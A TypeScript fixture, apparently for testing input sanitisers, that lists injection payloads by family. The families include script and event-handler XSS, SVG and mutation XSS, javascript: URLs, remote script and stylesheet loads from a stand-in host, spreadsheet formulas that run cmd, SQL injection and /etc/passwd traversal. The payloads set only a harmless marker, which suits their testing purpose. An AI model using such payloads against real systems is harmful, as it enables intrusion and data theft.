/** What a hostile text would do if anything ran it: the page's `__ran` would be set, or something outside be asked. */
const RUN = 'window.__ran=1'
const OUT = '//outside.example'

const repeated = (character: string, times: number) => character.repeat(times)

/** Hostile texts by family. Of each family the first is the sharpest. All are at most 200 characters, most at most 100. */
export const INJECTION_FAMILIES: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${RUN}</script>`,
    `"><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script src=${OUT}/a.js></script>`,
    `<script/x>${RUN}</script>`,
    `<<script>${RUN};//<</script>`,
    `<scr<script>ipt>${RUN}</script>`,
  ],
  handler: [
    `<img src=x onerror="${RUN}">`,
    `<img src=x onerror=${RUN}//`,
    `<IMG """><img src=x onerror=${RUN}>`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<marquee onstart=${RUN}>`,
    `<a onmouseover=${RUN} href=#>x</a>`,
    `<button popovertarget=x onclick=${RUN}>x</button>`,
    `<xss style="animation-name:breathe" onanimationstart=${RUN}></xss>`,
  ],
  svg: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>#x"/>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<table><td background="javascript:${RUN}">`,
    `<textarea></textarea><img src=x onerror=${RUN}>`,
    `<title></title><img src=x onerror=${RUN}>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  ],
  attribute: [
    `" onmouseover="${RUN}" x="`,
    `' onfocus='${RUN}' autofocus='`,
    `" autofocus onfocus=${RUN} "`,
    `x" style="position:fixed;inset:0" onclick="${RUN}`,
    `\`onload=${RUN}\``,
  ],
  address: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`,
    `https:${OUT}/\u202Egpj.exe`,
    `${OUT}/x`,
  ],
  frame: [
    `<iframe src="javascript:parent.__ran=1">`,
    `<iframe srcdoc="<script>parent.__ran=1</script>">`,
    `<object data="javascript:${RUN}">`,
    `<embed src=${OUT}/x.swf>`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<base href=${OUT}/>`,
    `<form action="javascript:${RUN}"><button>x</button></form>`,
  ],
  style: [
    `<style>@import '${OUT}/a.css';</style>`,
    `<link rel=stylesheet href=${OUT}/a.css>`,
    `<div style="background:url(${OUT}/a.png)">x</div>`,
    `}</style><style>*{display:none!important}</style>`,
    `;background:url(${OUT}/b.png)`,
    `expression(${RUN})`,
  ],
  template: [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `{"__proto__":{"__ran":1}}`,
    `__proto__`,
    `constructor`,
    `dangerouslySetInnerHTML`,
  ],
  formula: [
    `=HYPERLINK("https:${OUT}","x")`,
    `=cmd|' /C calc'!A0`,
    `+1+cmd|' /C calc'!A0`,
    `-2+3+cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `=IMPORTXML("https:${OUT}","//a")`,
  ],
  unicode: [
    `\u202Etxt.exe\u202C`,
    `\u2066\u2067x\u2069\u2069`,
    `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
    `\u200B\u200D\uFEFFx`,
    `x${repeated('\u0301', 60)}`,
    `\u{1F469}\u200D\u{1F4BB} ${repeated('\u{1F1E9}\u{1F1EA}', 8)}`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  ],
  query: [`'; drop table membership; --`, `' or '1'='1`, `") or 1=1 --`, `../../../../etc/passwd`],
}

/** All of them. */
export const INJECTIONS: readonly string[] = Object.values(INJECTION_FAMILIES).flat()

/** One of each family, where asking with all of them would take too long. */
export const SHARPEST: readonly string[] = Object.values(INJECTION_FAMILIES).flatMap(([first]) => first ?? [])
